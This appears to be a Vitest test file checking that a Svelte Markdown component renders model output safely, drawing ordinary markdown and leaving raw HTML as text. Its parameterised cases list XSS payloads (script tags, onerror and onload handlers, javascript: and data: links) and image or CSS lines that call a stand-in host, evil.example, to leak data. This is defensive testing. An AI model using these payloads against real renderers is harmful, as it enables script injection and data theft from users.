import { mount, unmount } from "svelte";
import { afterEach, expect, test } from "vitest";
import Markdown from "./Markdown.svelte";

let shown: Record<string, unknown> | undefined;

function draw(text: string): HTMLElement {
  document.body.replaceChildren();
  shown = mount(Markdown, { target: document.body, props: { text } });
  return document.body;
}

afterEach(() => {
  if (shown) void unmount(shown);
});

test("markup of a model is drawn by us alone", () => {
  const body = draw("**North** is <b>not bold</b>.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |");
  expect(body.querySelector("strong")?.textContent).toBe("North");
  expect(body.querySelector("b")).toBeNull();
  expect(body.textContent).toContain("<b>not bold</b>");
  expect(body.querySelectorAll("li")).toHaveLength(2);
  expect(body.querySelectorAll("td")).toHaveLength(2);
});

test.each([
  "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "![x](https://evil.example/?d=1)", "![x][r]\n\n[r]: https://evil.example/a.png", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
  "[click](javascript:alert(1))", "[click](data:text/html,<script>alert(1)</script>)", "<a href=\"javascript:alert(1)\">x</a>", "`<img src=x onerror=alert(1)>`", "&lt;img src=x onerror=alert(1)&gt;", "<style>*{background:url(https://evil.example)}</style>",
])("%s stays text", (text) => {
  const body = draw(text);
  expect(body.querySelectorAll("img, script, svg, iframe, style, object, embed, link, form")).toHaveLength(0);
  for (const a of body.querySelectorAll("a")) expect(a.getAttribute("href")).toMatch(/^https?:/);
});
